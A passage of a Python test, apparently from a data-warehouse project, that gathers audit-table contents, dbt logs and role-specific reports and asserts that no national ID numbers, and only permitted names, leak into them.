    with psycopg.connect(warehouse) as conn:
        for table, columns in {"audit.load": "reason, notes", "audit.quarantine": "message, column_name",
                               "audit.release": "note", "audit.repair": "before, after",
                               "audit.expectation_result": "observed", "marts.fct_deliveries": "reason"}.items():
            rows = conn.execute(f"select concat_ws(' | ', {columns}) from {table}").fetchall()
            blobs[table] = "\n".join(r[0] or "" for r in rows)
    assert blobs["audit.quarantine"] and blobs["audit.load"]
    blobs["log"] = "\n".join(LOGS.lines)
    for log_file in Path(tempfile.gettempdir()).glob("sinergi_dbt_*/dbt.log"):
        if log_file.stat().st_mtime >= STARTED - 3600:
            text = log_file.read_text(encoding="utf-8", errors="replace")
            if urlsplit(warehouse).path.strip("/") in text:
                blobs[str(log_file)] = text
    # The report: as analyst no names and no NIK; as auditor names by design, but never a NIK.
    for role, folder, with_names in ((access.ANALYST, "analis", True), (access.AUDITOR, "auditor", False)):
        written = report.write(warehouse, MONTH, tmp_path / folder, role)
        for path in [written.html, *written.entity_files]:
            blobs[f"{folder}/{path.name}"] = (path.read_text(encoding="utf-8"), with_names)
    leaks = {}
    for where, blob in blobs.items():
        text, with_names = blob if isinstance(blob, tuple) else (blob, True)
        if hits := _found(text, niks, names, with_names):
            leaks[where] = hits[:5]
    assert leaks == {}
